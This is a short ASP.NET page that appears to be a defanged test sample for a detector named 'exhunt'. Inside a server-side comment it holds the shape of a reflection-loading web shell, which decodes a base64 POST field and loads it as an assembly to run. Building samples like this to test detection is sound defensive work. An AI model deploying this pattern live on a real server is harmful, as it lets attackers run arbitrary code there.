<%@ Page Language="C#" %>
<%-- exhunt test sample, defanged: an ASP.NET server-side comment, never
     compiled; the reflection-loader shape only (no key, no payload).
<%
byte[] data = Convert.FromBase64String(Request.Form["exhunt"]);
object asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
object o = ((System.Reflection.Assembly)asm).CreateInstance("ExhuntTest");
%>
--%>
